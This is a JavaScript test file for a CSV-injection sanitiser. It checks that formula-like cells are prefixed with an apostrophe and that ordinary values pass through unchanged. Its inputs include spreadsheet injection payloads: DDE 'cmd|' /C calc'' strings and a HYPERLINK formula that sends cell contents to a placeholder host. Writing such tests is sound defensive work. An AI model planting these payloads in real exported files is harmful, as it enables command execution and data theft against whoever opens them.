// CSV injection: formula-looking cells are defused, ordinary data (incl. negative numbers) is untouched.
import assert from 'node:assert/strict';
import { it } from 'node:test';
import { stringify } from 'csv-stringify/sync';
import { csvSafeCell, csvSafeRecord, csvSafeRow } from './csv-safe.js';

it('prefixes cells starting with = + - @ tab CR (and full-width = + - @)', () => {
  const hostile = ['=HYPERLINK("http://x/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\'/C calc\'!A0',
    '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1+1', '＠SUM(A1)', '-', '+', '=', '-1e3+cmd', '+1', '+81', '\t42', '\r42'];
  for (const h of hostile) assert.equal(csvSafeCell(h), `'${h}`, h);
});

it('leaves ordinary text, numbers and negative numeric strings alone', () => {
  for (const ok of ['Alice', 'a=b', ' =1 is fine after a space? no: Excel trims only on input', 'user@example.com', '2026-04-01', '', '東京', "'already"]) {
    assert.equal(csvSafeCell(ok), ok, ok);
  }
  for (const n of ['-12.5', '-0', '.5', '-3e10', '42', '-.5']) assert.equal(csvSafeCell(n), n, n);
  assert.equal(csvSafeCell(-5), '-5');
  assert.equal(csvSafeCell(null), '');
  assert.equal(csvSafeCell(undefined), '');
  assert.equal(csvSafeCell(true), 'true');
  assert.equal(csvSafeCell(new Date('2026-01-02T03:04:05Z')), '2026-01-02T03:04:05.000Z');
  assert.equal(csvSafeCell({ f: '=1' }), '{"f":"=1"}');
});

it('rows and records come out safe through a real CSV writer', () => {
  assert.deepEqual(csvSafeRow(['=1+1', 'ok', 3]), ["'=1+1", 'ok', '3']);
  assert.deepEqual(csvSafeRecord({ '=evil': '@x', name: 'Bob' }), { "'=evil": "'@x", name: 'Bob' });
  const csv = stringify([csvSafeRow(['=cmd|"/C calc"!A0', 'Bob'])]);
  assert.equal(csv, `"'=cmd|""/C calc""!A0",Bob\n`);
});
